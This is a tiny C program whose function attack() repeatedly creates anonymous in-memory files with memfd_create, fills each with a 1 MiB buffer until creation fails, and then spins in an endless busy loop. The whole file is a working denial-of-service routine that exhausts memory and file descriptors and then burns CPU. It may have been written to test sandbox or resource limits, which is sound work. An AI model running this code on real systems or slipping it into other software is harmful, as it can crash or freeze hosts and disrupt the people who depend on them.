// Fills files that exist only in memory.
#include <sys/mman.h>
#include <unistd.h>

static char piece[1 << 20];

void attack() {
  for (int file; (file = memfd_create("kept", 0)) >= 0;) write(file, piece, sizeof piece);
  for (;;);
}
